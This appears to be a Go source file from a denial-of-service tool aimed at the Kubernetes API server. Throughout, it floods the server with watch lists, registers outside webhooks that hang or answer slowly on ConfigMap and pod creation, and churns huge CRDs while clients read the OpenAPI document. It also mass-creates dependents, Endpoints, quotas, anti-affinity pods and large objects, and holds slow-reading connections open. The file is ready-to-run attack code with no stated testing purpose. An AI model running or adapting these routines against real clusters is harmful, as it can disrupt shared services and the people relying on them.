package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"strings"
	"syscall"
	"time"
)

// watchLists has clients list by watches that begin with all objects.
func watchLists(ctx context.Context, a *attacker) error {
	const query = "?watch=1&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true"
	return a.clients(ctx, many, func(client *http.Client, _, _ int) {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, a.Host+configMaps+query, nil)
		if err != nil {
			return
		}
		resp, err := client.Do(req)
		if err != nil {
			a.note(0)
			return
		}
		defer resp.Body.Close() //nolint:errcheck // nothing is lost
		a.note(resp.StatusCode)
		for events := json.NewDecoder(resp.Body); ; {
			var e struct{ Type string }
			if err := events.Decode(&e); err != nil || e.Type == "BOOKMARK" {
				return
			}
		}
	})
}

// hook is a webhook outside of the cluster that is asked about what is created.
func (a *attacker) hook(ctx context.Context, resource string, ca []byte, at net.Addr) error {
	return a.make(ctx, registration+"validatingwebhookconfigurations", fmt.Sprintf(
		`{"metadata":{"name":"hook"},"webhooks":[{"name":"h.example.com","failurePolicy":"Ignore",`+
			`"timeoutSeconds":30,"sideEffects":"None","admissionReviewVersions":["v1"],`+
			`"clientConfig":{"url":"https://%s/","caBundle":%q},`+
			`"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":[%q]}]}]}`,
		at, base64.StdEncoding.EncodeToString(ca), resource))
}

// silentHook takes connections and says nothing.
func silentHook(ctx context.Context, a *attacker) error {
	listener, err := new(net.ListenConfig).Listen(ctx, "tcp", net.JoinHostPort(a.Outside, "0"))
	if err != nil {
		return err
	}
	go func() {
		for {
			if _, err := listener.Accept(); err != nil {
				return
			}
		}
	}()
	_, ca, err := certificate(a.Outside)
	if err != nil {
		return err
	}
	return a.hook(ctx, "configmaps", ca, listener.Addr())
}

// slowly is after what a webhook answers: shortly before the server stops to wait.
const slowly = 1900 * time.Millisecond

// slowHook is asked about pods.
func slowHook(ctx context.Context, a *attacker) error {
	pair, ca, err := certificate(a.Outside)
	if err != nil {
		return err
	}
	listener, err := tls.Listen("tcp", net.JoinHostPort(a.Outside, "0"),
		&tls.Config{Certificates: []tls.Certificate{pair}})
	if err != nil {
		return err
	}
	server := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(answerSlowly)}
	go func() { _ = server.Serve(listener) }() // it ends with the process
	return a.hook(ctx, "pods", ca, listener.Addr())
}

func answerSlowly(w http.ResponseWriter, req *http.Request) {
	const allowed = `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview",` +
		`"response":{"uid":%q,"allowed":true}}`
	var review struct{ Request struct{ UID string } }
	if err := json.NewDecoder(req.Body).Decode(&review); err != nil {
		return
	}
	select {
	case <-req.Context().Done():
	case <-time.After(slowly):
	}
	w.Header().Set("Content-Type", "application/json")
	fmt.Fprintf(w, allowed, review.Request.UID) //nolint:errcheck // the server gave up
}

// certificate is one that signs itself, for an address.
func certificate(address string) (pair tls.Certificate, ca []byte, err error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return pair, nil, err
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, IPAddresses: []net.IP{net.ParseIP(address)},
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		return pair, nil, err
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key},
		pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), nil
}

const (
	crds = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
	// properties is how many fields a large CRD has.
	properties = 2000
)

func definition(i int, note string) string {
	var schema strings.Builder
	for j := range properties {
		fmt.Fprintf(&schema, `,"p%d":{"type":"string","description":"%s"}`, j, strings.Repeat("w ", 20))
	}
	return fmt.Sprintf(`{"metadata":{"name":"big%d.example.com"},"spec":{"group":"example.com","scope":"Namespaced",`+
		`"names":{"plural":"big%[1]d","kind":"Big%[1]d"},"versions":[{"name":"v1","served":true,`+
		`"storage":true,"schema":{"openAPIV3Schema":{"type":"object","properties":`+
		`{"note":{"type":"string","description":%[2]q}%[3]s}}}}]}}`,
		i, note, schema.String())
}

// definitions makes large CRDs.
func definitions(n int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		for i := range n {
			if err := a.make(ctx, crds, definition(i, "first")); err != nil {
				return err
			}
		}
		return nil
	}
}

// changingDefinitions changes them, while clients ask for the document of all.
func changingDefinitions(n, readers int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.clients(ctx, n+readers, func(client *http.Client, i, turn int) {
			if i >= n {
				a.ask(ctx, client, http.MethodGet, "/openapi/v2", "")
				return
			}
			a.ask(ctx, client, http.MethodPatch, crds+fmt.Sprintf("/big%d.example.com", i),
				definition(i, fmt.Sprintf("turn %d", turn)))
		})
	}
}

// dependents makes so many objects of one owner, deletes the owner, and begins anew.
func dependents(n int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		for turn := 0; ctx.Err() == nil; turn++ {
			name := fmt.Sprintf("owner-%d", turn)
			if err := a.make(ctx, configMaps, fmt.Sprintf(`{"metadata":{"name":%q}}`, name)); err != nil {
				return err
			}
			uid, err := a.uid(ctx, configMaps+"/"+name)
			if err != nil {
				return err
			}
			round, end := context.WithCancel(ctx)
			err = a.clients(round, many, func(client *http.Client, i, turn int) {
				if turn*many+i >= n {
					end()
					return
				}
				a.ask(ctx, client, http.MethodPost, configMaps, fmt.Sprintf(`{"metadata":{"generateName":"d-",`+
					`"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":%q,"uid":%q}]}}`, name, uid))
			})
			end()
			if err != nil {
				return err
			}
			if _, err := a.send(ctx, a.http, http.MethodDelete, configMaps+"/"+name, ""); err != nil {
				return err
			}
		}
		return nil
	}
}

func (a *attacker) uid(ctx context.Context, path string) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, a.Host+path, nil)
	if err != nil {
		return "", err
	}
	resp, err := a.http.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close() //nolint:errcheck // nothing is lost
	var o struct{ Metadata struct{ UID string } }
	data, err := io.ReadAll(resp.Body)
	if err == nil {
		err = json.Unmarshal(data, &o)
	}
	return o.Metadata.UID, err
}

func addresses(n, turn int) string {
	all := make([]string, n)
	for i := range all {
		all[i] = fmt.Sprintf(`{"ip":"192.0.%d.%d"}`, 2+(i+turn)/250%250, 1+(i+turn)%250)
	}
	return `{"subsets":[{"ports":[{"port":80}],"addresses":[` + strings.Join(all, ",") + `]}]`
}

// endpoints makes a Service without a selector, and its Endpoints.
func endpoints(n int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		err := a.make(ctx, namespace+"/services", `{"metadata":{"name":"s"},"spec":{"ports":[{"port":80}]}}`)
		if err != nil {
			return err
		}
		return a.make(ctx, namespace+"/endpoints", addresses(n, 0)+`,"metadata":{"name":"s"}}`)
	}
}

func changingEndpoints(n int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.clients(ctx, 4, func(client *http.Client, i, turn int) {
			a.ask(ctx, client, http.MethodPatch, namespace+"/endpoints/s", addresses(n, turn+i)+"}")
		})
	}
}

// quotas count ConfigMaps, and what nobody makes.
func quotas(n int) func(context.Context, *attacker) error {
	const quota = `{"metadata":{"name":"q%d"},"spec":{"hard":` +
		`{"count/configmaps":"100000","pods":"1000","secrets":"1000"}}}`
	return func(ctx context.Context, a *attacker) error {
		for i := range n {
			if err := a.make(ctx, namespace+"/resourcequotas", fmt.Sprintf(quota, i)); err != nil {
				return err
			}
		}
		return nil
	}
}

// affinity makes pods that the scheduler has much to compare for.
func affinity(terms int) func(context.Context, *attacker) error {
	const (
		term = `{"topologyKey":"kubernetes.io/hostname","labelSelector":{"matchExpressions":[` +
			`{"key":"k%d","operator":"NotIn","values":["v"]},{"key":"x","operator":"In","values":["y"]}]}}`
		pod = `{"metadata":{"name":"a-%d-%d","labels":{"x":"z"}},"spec":{"affinity":{"podAntiAffinity":` +
			`{"requiredDuringSchedulingIgnoredDuringExecution":[%s]}},` +
			`"containers":[{"name":"c","image":"example.com/c"}]}}`
	)
	all := make([]string, terms)
	for i := range all {
		all[i] = fmt.Sprintf(term, i)
	}
	joined := strings.Join(all, ",")
	return func(ctx context.Context, a *attacker) error {
		return a.clients(ctx, 8, func(client *http.Client, i, turn int) {
			a.ask(ctx, client, http.MethodPost, namespace+"/pods", fmt.Sprintf(pod, i, turn, joined))
		})
	}
}

// large makes so many ConfigMaps of 100 kB.
func large(n int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		for i := range n {
			body := fmt.Sprintf(`{"metadata":{"name":"c%d"},"data":{"x":%q}}`, i, strings.Repeat("x", 100_000))
			if err := a.make(ctx, configMaps, body); err != nil {
				return err
			}
		}
		return nil
	}
}

// slowReaders has clients list, each over a connection of HTTP/1.1 that takes little of
// the answer, and read nothing more.
func slowReaders(clients int, query, accept string) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.clients(ctx, clients, func(client *http.Client, _, _ int) {
			slow := a.slow(client)
			defer slow.CloseIdleConnections()
			req, err := http.NewRequestWithContext(ctx, http.MethodGet, a.Host+configMaps+query, nil)
			if err != nil {
				return
			}
			req.Header.Set("Accept", accept)
			resp, err := slow.Do(req)
			if err != nil {
				a.note(0)
				return
			}
			defer resp.Body.Close() //nolint:errcheck // nothing is lost
			a.note(resp.StatusCode)
			if resp.StatusCode == http.StatusOK {
				<-ctx.Done()
			}
		})
	}
}

// slow is a client whose connections have room for little that was not read.
func (a *attacker) slow(like *http.Client) *http.Client {
	const room = 4 << 10
	dialer := net.Dialer{Control: func(_, _ string, c syscall.RawConn) error {
		var failed error
		err := c.Control(func(fd uintptr) {
			failed = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, room)
		})
		return errors.Join(err, failed)
	}}
	of := like.Transport.(*http.Transport)
	return &http.Client{Transport: &http.Transport{TLSClientConfig: of.TLSClientConfig.Clone(),
		DialContext: dialer.DialContext}}
}
